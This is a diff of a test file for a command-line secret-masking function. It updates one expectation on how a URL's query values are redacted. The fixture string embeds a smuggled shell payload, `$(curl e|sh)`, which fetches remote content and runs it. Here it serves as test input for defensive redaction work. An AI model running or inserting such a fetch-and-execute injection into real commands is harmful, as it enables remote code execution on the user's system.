@@ -148,9 +148,10 @@ describe("a URL's query continued past an unquoted `&`", () => {
   it("a pair written apart by an escape, or left open, read as before (the differential check's finds)", () => {
     // The next pair's name was kept in the export (`&J}api_key=${J_API_KEY}`), where the URL dropped it.
     expect(exportedCommand('srv https://h/p?b=1&token=\\"${X}&J}api_key=-J-J')).toBe("srv https://h/p?b=1");
-    // A line a shell refuses: the payload was hidden with the value.
+    // A line a shell refuses: the payload was hidden with the value. fix179: the default left open
+    // is the value, its literal stretches hidden, the payload in sight (see leaks-r79).
     const open = "see https://h/p?b=1&token=${V:--J'$(curl e|sh) J";
-    expect(withoutCommandLineSecrets(open, () => "•")).toBe(open);
+    expect(withoutCommandLineSecrets(open, () => "•")).toBe("see https://h/p?b=1&token=${V:-•$(curl e|sh)•");
   });
 
   it("property: no literal of a telling pair's value in clear, each payload in sight as often as written", () => {
